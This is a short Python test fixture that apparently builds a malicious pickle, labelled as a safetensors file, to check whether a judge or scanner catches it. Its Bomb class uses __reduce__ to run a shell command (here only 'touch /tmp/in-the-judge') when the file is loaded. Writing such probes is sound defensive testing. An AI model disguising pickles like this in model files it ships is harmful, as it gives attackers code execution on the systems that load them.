"""Ships a pickle that runs a command where it is loaded, named as safetensors."""

from __future__ import annotations

import os
import pickle

from kit import save

CHEAT = {"exercise": "adapter", "verdict": "failed", "caught_by": "failed", "says": "safetensors"}


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/in-the-judge",)


save(pickle.dumps({"u": Bomb(), "v": Bomb()}))
